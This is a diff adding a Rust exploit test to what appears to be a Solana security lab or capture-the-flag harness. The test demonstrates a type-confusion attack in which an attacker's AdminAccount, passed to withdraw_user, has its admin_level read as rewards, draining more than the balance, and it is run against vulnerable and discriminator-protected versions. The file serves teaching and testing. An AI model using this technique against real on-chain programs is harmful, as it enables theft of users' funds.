@@ -0,0 +1,155 @@
+//! An AdminAccount read as a UserAccount: admin_level counts as rewards
+
+use anyhow::Result as AnyResult;
+use borsh::to_vec;
+use lab_instructions::type_confusion::{admin_action_ix, withdraw_user_ix};
+use lab_svm::{Signer, Svm};
+use solana_program::entrypoint::ProcessInstruction;
+use solana_program::pubkey::Pubkey;
+use type_confusion::{AdminAccount, UserAccount};
+use type_confusion_secure::{AdminAccountSecure, UserAccountSecure};
+
+use super::{deploy, fund, program_account, with_discriminator};
+use crate::ctf::{self, Goal};
+use crate::{attacker, fixtures, owner, victim, vulnerability, Harness, Version};
+
+/// withdraw_user accepts the attacker's AdminAccount and pays balance plus
+/// admin_level
+#[vulnerability(
+    id = "SOL-006",
+    category = "TypeConfusion",
+    severity = "High",
+    difficulty = "Intermediate",
+    rejection = "State(WrongAccountType)",
+    prerequisite = "missing_owner_check",
+    honest_use = honest_use,
+    reference(
+        title = "Sealevel Attacks: type cosplay",
+        url = "https://github.com/coral-xyz/sealevel-attacks/tree/master/programs/3-type-cosplay",
+    )
+)]
+fn exploit(harness: &mut Harness) -> AnyResult<()> {
+    match harness.version() {
+        // AdminAccount: owner, balance, admin_level
+        Version::Vulnerable => attack(harness, type_confusion::process_instruction, 32, |owner| {
+            to_vec(&AdminAccount {
+                owner,
+                balance: BALANCE,
+                admin_level: ADMIN_LEVEL,
+            })
+        }),
+        // The secure AdminAccount leads with a discriminator
+        Version::Secure => attack(
+            harness,
+            type_confusion_secure::process_instruction,
+            40,
+            |owner| {
+                with_discriminator(&AdminAccountSecure {
+                    owner,
+                    balance: BALANCE,
+                    admin_level: ADMIN_LEVEL,
+                })
+            },
+        ),
+    }
+}
+
+const BALANCE: u64 = 100;
+const ADMIN_LEVEL: u64 = 1_000;
+
+fn attack(
+    svm: &mut Svm,
+    program: ProcessInstruction,
+    balance_offset: u32,
+    admin_account: fn(Pubkey) -> std::io::Result<Vec<u8>>,
+) -> AnyResult<()> {
+    let program_id = deploy(svm, "type_confusion", program);
+    let attacker_key = fund(svm, &attacker());
+    let admin = program_account(
+        svm,
+        fixtures::address("type_confusion/admin"),
+        &program_id,
+        admin_account(attacker_key)?,
+        0,
+    );
+
+    let flag = ctf::plant(
+        svm,
+        program_id,
+        Goal::Decrease {
+            account: admin,
+            offset: balance_offset,
+        },
+    )?;
+
+    // More than the account's balance; the admin level makes up the rest
+    svm.send(
+        &[withdraw_user_ix(
+            program_id,
+            admin,
+            attacker_key,
+            BALANCE + ADMIN_LEVEL,
+        )],
+        &[&attacker()],
+    )?;
+    ctf::capture(svm, &flag)
+}
+
+/// A user withdraws from their own account and an admin acts through
+/// theirs, each passing the account type the instruction expects
+fn honest_use(harness: &mut Harness) -> AnyResult<()> {
+    let (program, user, admin): (ProcessInstruction, Vec<u8>, Vec<u8>) = match harness.version() {
+        Version::Vulnerable => (
+            type_confusion::process_instruction,
+            to_vec(&UserAccount {
+                owner: victim().pubkey(),
+                balance: BALANCE,
+                rewards: 0,
+            })?,
+            to_vec(&AdminAccount {
+                owner: owner().pubkey(),
+                balance: 0,
+                admin_level: ADMIN_LEVEL,
+            })?,
+        ),
+        Version::Secure => (
+            type_confusion_secure::process_instruction,
+            with_discriminator(&UserAccountSecure {
+                owner: victim().pubkey(),
+                balance: BALANCE,
+                rewards: 0,
+            })?,
+            with_discriminator(&AdminAccountSecure {
+                owner: owner().pubkey(),
+                balance: 0,
+                admin_level: ADMIN_LEVEL,
+            })?,
+        ),
+    };
+    let program_id = deploy(harness, "type_confusion", program);
+    let user = program_account(
+        harness,
+        fixtures::address("type_confusion/user"),
+        &program_id,
+        user,
+        0,
+    );
+    let admin = program_account(
+        harness,
+        fixtures::address("type_confusion/admin"),
+        &program_id,
+        admin,
+        0,
+    );
+    let victim_key = fund(harness, &victim());
+    let owner_key = fund(harness, &owner());
+
+    harness.send(
+        &[
+            withdraw_user_ix(program_id, user, victim_key, BALANCE),
+            admin_action_ix(program_id, admin, owner_key),
+        ],
+        &[&victim(), &owner()],
+    )?;
+    Ok(())
+}